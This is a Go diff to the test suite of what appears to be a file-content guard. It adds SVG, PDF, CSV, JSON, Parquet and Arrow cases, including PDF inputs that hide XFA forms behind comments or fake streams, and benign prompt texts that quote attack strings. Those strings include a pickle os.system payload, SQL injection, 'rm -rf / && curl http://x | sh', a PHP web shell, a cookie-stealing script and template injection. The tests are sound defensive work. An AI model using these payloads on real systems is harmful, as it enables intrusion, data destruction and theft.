@@ -1,6 +1,7 @@
 package guardtest
 
 import (
+	"encoding/base64"
 	"fmt"
 	"strings"
 
@@ -46,6 +47,7 @@ func drawings() []Case {
 		{"V8", "references that multiply", "a.svg", fact.CodeNodes, bomb + `</svg>`},
 		{"V8", "references in a circle", "a.svg", fact.CodeDepth, svgHead + `<g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g></svg>`},
 		{"V11", "UTF-7", "a.svg", fact.CodeEncoding, `<?xml version="1.0" encoding="UTF-7"?>` + svgHead + `</svg>`},
+		{"V11", "UTF-16", "a.svg", fact.CodeMismatch, "\xff\xfe<\x00s\x00v\x00g\x00/\x00>\x00"},
 		{"V12", "drawing inside a page", "a.svg", fact.CodeMismatch, `<html>` + svgHead + `</svg></html>`},
 		{"V13", "100,000 levels", "a.svg", fact.CodeDepth, svgHead + strings.Repeat("<g>", 100_000)},
 		{"V17", "style sheet instruction", "a.svg", fact.CodeDoctype, `<?xml version="1.0"?><?xml-stylesheet href="x"?>` + svgHead + `</svg>`},
@@ -71,9 +73,24 @@ func tables() []Case {
 		{"T4", "escaped name", "a.pdf", fact.CodeActive, "", func() []byte { return PDF("/J#53 (x)") }},
 		{"T5", "packed objects unpack too far", "a.pdf", fact.CodeRatio, "", func() []byte { return pdfObjects(deflated(64 << 20)) }},
 		{"T6", "form", "a.pdf", fact.CodeActive, "", func() []byte { return PDF("/AcroForm << /XFA 1 0 R >>") }},
+		{"T6", "form behind a comment that looks like a stream", "a.pdf", fact.CodeActive, "", func() []byte {
+			return PDF("% << >> stream\n/AcroForm << /XFA 1 0 R >> % endstream\n")
+		}},
+		{"T6", "form behind a string that looks like a stream", "a.pdf", fact.CodeActive, "", func() []byte {
+			return PDF("/A (<< >> stream\n) /AcroForm << /XFA 1 0 R >> /B (endstream)")
+		}},
+		{"T6", "form in an object inside a stream", "a.pdf", fact.CodeActive, "", func() []byte {
+			return PDF(">> endobj 3 0 obj << /Length 60 >>\nstream\n5 0 obj << /XFA 1 0 R >> endobj\nendstream endobj 4 0 obj <<")
+		}},
+		{"T6", "form in an object that starts in a comment", "a.pdf", fact.CodeActive, "", func() []byte {
+			return PDF(">> endobj % 5 0 obj << /A (\n6 0 obj << >>\nstream\n) /XFA 1 0 R /B (\nendstream ) >> endobj 7 0 obj <<")
+		}},
+		{"T5", "packed objects in a stream", "a.pdf", fact.CodeActive, "", func() []byte {
+			return PDF(">> endobj 3 0 obj << /Length 60 >>\nstream\n5 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nx\nendstream endobj 4 0 obj <<")
+		}},
 		{"T7", "encrypted", "a.pdf", fact.CodeEncrypted, "", func() []byte { return PDF("/Encrypt 2 0 R") }},
-		{"T8", "header at 2 KiB", "a.pdf", "*", "", func() []byte { return cat(make([]byte, 2048), PDF("")) }},
-		{"T8", "header at 100", "a.pdf", "*", "", func() []byte { return cat(make([]byte, 100), PDF("")) }},
+		{"T8", "header at 2 KiB", "a.pdf", fact.CodeUnknown, "", func() []byte { return cat(make([]byte, 2048), PDF("")) }},
+		{"T8", "header at 100", "a.pdf", fact.CodeMalformed, "", func() []byte { return cat(make([]byte, 100), PDF("")) }},
 		{"T14", "formula", "a.csv", "", fact.CodeFormula, func() []byte { return []byte("a,b\n=1+1,2\n") }},
 		{"T15", "5 million columns", "a.csv", fact.CodeCells, "", func() []byte { return []byte("a" + strings.Repeat(",", 5_000_000)) }},
 		{"T16", "cell of 50 MB", "a.csv", fact.CodeCells, "", func() []byte { return []byte(`"` + strings.Repeat("x", 50<<20) + `"`) }},
@@ -89,6 +106,13 @@ func tables() []Case {
 		{"T24", "invalid UTF-8", "a.json", fact.CodeEncoding, "", func() []byte { return []byte(`["` + strings.Repeat("x", 5000) + "\xff\"]") }},
 		{"T25", "two documents", "a.json", fact.CodeMany, "", func() []byte { return []byte(`{} {}`) }},
 		{"T26", "not a number", "a.json", "", fact.CodeNumber, func() []byte { return []byte(`[NaN]`) }},
+		{"T30", "Parquet, of a kind without a walker", "a", fact.CodeUnsupported, "", func() []byte {
+			return []byte("PAR1\x15\x04\x15\xfe\xff\xff\xff\x0f" + strings.Repeat("\x00", 40) + "PAR1")
+		}},
+		{"T31", "Parquet, of a kind without a walker", "a", fact.CodeUnsupported, "", func() []byte { return []byte("PAR1" + strings.Repeat("\x15\x02\x19", 999) + "PAR1") }},
+		{"T32", "Arrow, of a kind without a walker", "a", fact.CodeUnsupported, "", func() []byte {
+			return []byte("ARROW1\x00\x00\xff\xff\xff\xff\xff\xff\xff\x7f" + strings.Repeat("\x00", 40) + "ARROW1")
+		}},
 		{"T33", "database as a table", "a.csv", fact.CodeMismatch, "", func() []byte { return []byte("SQLite format 3\x00" + strings.Repeat("\x00", 99)) }},
 	} {
 		out = append(out, Case{ID: v.id, About: v.about, Name: v.name, Accept: acc, Code: v.code, Note: v.note, Make: v.in})
@@ -109,8 +133,10 @@ func benignText() []Case {
 	}{
 		{"b31", "a.svg", fact.SVG, `<?xml version="1.0"?>` + "\n" + svgHead + `<path d="M0 0h1" fill="red"/></svg>`},
 		{"b32", "a.svg", fact.SVG, svgHead + `<defs><clipPath id="c"><rect/></clipPath></defs><g clip-path="url(#c)" style="fill: none; stroke: #000"><use xlink:href="#m"/></g></svg>`},
+		{"b33", "a.svg", fact.SVG, svgHead + `<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs><rect fill="url(#g)" filter="url(#f)" width="9" height="9"/></svg>`},
 		{"b34", "a.svg", fact.SVG, svgHead + `<title>a script &amp; more</title></svg>`},
 		{"b55", "a.csv", fact.CSV, "\xef\xbb\xbfa;b\r\n\"x;\"\"y\";2\r\n"},
+		{"b56", "a.csv", fact.CSV, "a,b\n=SUM(A1:A2),2\n"},
 		{"b57", "a.csv", fact.CSV, strings.Repeat("1,", 199) + "1\n"},
 		{"b58", "a.tsv", fact.TSV, "a\tb\n1\t\"2\n"},
 		{"b59", "a.json", fact.JSON, "[" + strings.Repeat("1.5e3,", 100_000) + "0]"},
@@ -122,11 +148,22 @@ func benignText() []Case {
 		{"b67", "a.pdf", fact.PDF, string(PDF("/Pages 2 0 R"))},
 		{"b68", "a.pdf", fact.PDF, string(PDF("/A << /S /URI /URI (https://example.com) >>"))},
 		{"b69", "a.pdf", fact.PDF, "%PDF-1.4\n1 0 obj << /Length 90000 >>\nstream\n" + strings.Repeat("/JS /AA xyz ", 9000) + "\nendstream\nendobj\n%%EOF\n"},
+		{"b70", "a.pdf", fact.PDF, "%PDF-1.7\n1 0 obj << /Type /Metadata /Subtype /XML /Length 99 >>\nstream\n<?xpacket begin=''?><x:xmpmeta xmlns:x='adobe:ns:meta/'/>\nendstream\nendobj\n2 0 obj << /OpenAction [3 0 R /Fit] /OutputIntents [] >> endobj\n%%EOF\n"},
+		{"b86", "a.json", fact.JSON, `{"image":"data:image/png;base64,` + base64.StdEncoding.EncodeToString(noise(2<<20)) + `"}`},
+		{"b87", "a.json", fact.JSON, `{"path":"data:audio/wav;base64,` + base64.StdEncoding.EncodeToString(WAV(16000, 1, 16)) + `"}`},
+		{"b88", "a.json", fact.JSON, "[" + strings.Repeat(`{"role":"user","content":"Explain \"pickle\" again, please.\n"},`, 1600) + "null]"},
 		{"b84", "a.py", fact.Text, "#!/usr/bin/python\nx = b\"cos\\nsystem\\n(S'ls'\\ntR.\"\n"},
 		{"b85", "a.md", fact.Text, "# hi\n<b>x</b>"},
 		{"b85", "a.md", fact.Text, "<p align=center>hi</p>"},
 	} {
 		out = append(out, Case{ID: v.id, Name: v.name, Accept: []fact.Format{v.f}, Make: func() []byte { return []byte(v.in) }})
+	}
+	for _, prompt := range []string{
+		"Please explain this pickle: cos\nsystem\n(S'ls'\ntR.", "What does rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== mean?", "Is !!python/object/apply:os.system safe in YAML?",
+		"SELECT * FROM users WHERE name = '' OR 1=1; --", "rm -rf / && curl http://x | sh", "<?php system($_GET['c']); ?>", "<script>alert(document.cookie)</script>",
+		"{{ ''.__class__.__mro__[1].__subclasses__() }}", "AAEAAAD/////AQAAAA is how .NET objects begin", "Why does it say: This program cannot be run in DOS mode?",
+	} {
+		out = append(out, Case{ID: "b83", About: "prompt", Name: "a.txt", Accept: []fact.Format{fact.Text}, Make: func() []byte { return []byte(prompt) }})
 	}
 	out = append(out, Case{ID: "b67", About: "packed objects", Name: "a.pdf", Accept: []fact.Format{fact.PDF}, Make: func() []byte { return pdfObjects(deflated(1000)) }})
 	return out
